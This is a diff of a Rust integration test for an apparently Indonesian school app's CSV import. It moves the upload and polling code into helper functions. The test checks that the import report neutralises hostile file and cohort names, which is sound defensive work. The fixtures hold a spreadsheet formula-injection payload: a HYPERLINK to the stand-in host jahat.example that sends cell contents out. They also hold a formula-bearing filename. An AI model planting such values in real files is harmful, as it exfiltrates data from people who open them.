@@ -5,11 +5,10 @@
 
 use app::model::Role;
 use pamong_tests::fixtures;
-use pamong_tests::harness::{location, Client, TestServer};
-use pamong_tests::import_support::generate_csv;
+use pamong_tests::harness::{Client, TestServer};
+use pamong_tests::import_support::{finished, generate_csv, upload_job};
 use pamong_tests::quiz_results_support as qs;
 use reqwest::header::{HeaderValue, ORIGIN, REFERER};
-use std::time::Duration;
 
 const PASSWORD: &str = "kata-sandi-uji-1";
 const HOSTILE_NAME: &str = "=HYPERLINK(\"http://jahat.example/?d=\"&A1,\"Klik\")";
@@ -127,41 +126,8 @@ async fn the_import_report_neutralises_the_file_and_cohort_names() {
     let mut csv = generate_csv(3, 5, "laporan.test");
     csv.push_str("-Tanpa Sekolah;tanpa@laporan.test;;;;;;SD;;;\n");
 
-    let page = format!("/admin/angkatan/{cohort}/impor");
-    let part = reqwest::multipart::Part::bytes(csv.into_bytes())
-        .file_name("=1+2+cmd.csv")
-        .mime_str("text/csv")
-        .expect("mime");
-    let response = admin_client
-        .http
-        .post(admin_client.url(&page))
-        .header(
-            ORIGIN,
-            HeaderValue::from_str(&admin_client.base).expect("origin"),
-        )
-        .header(REFERER, admin_client.url(&page))
-        .multipart(reqwest::multipart::Form::new().part("file", part))
-        .send()
-        .await
-        .expect("upload");
-    assert_eq!(response.status(), 303);
-    let job: i64 = location(&response)
-        .and_then(|to| to.strip_prefix("/admin/impor/")?.parse().ok())
-        .expect("job page");
-    let deadline = std::time::Instant::now() + Duration::from_secs(120);
-    loop {
-        let (status,): (String,) = sqlx::query_as("select status from import_job where id = $1")
-            .bind(job)
-            .fetch_one(&server.db)
-            .await
-            .expect("job");
-        if status == "done" || status == "failed" {
-            assert_eq!(status, "done");
-            break;
-        }
-        assert!(std::time::Instant::now() < deadline, "import never ended");
-        tokio::time::sleep(Duration::from_millis(50)).await;
-    }
+    let job = upload_job(&admin_client, cohort, "=1+2+cmd.csv", &csv).await;
+    assert_eq!(finished(&server.db, job).await.status, "done");
 
     let rows = records(
         &download(&admin_client, &format!("/admin/impor/{job}/laporan.csv")).await,
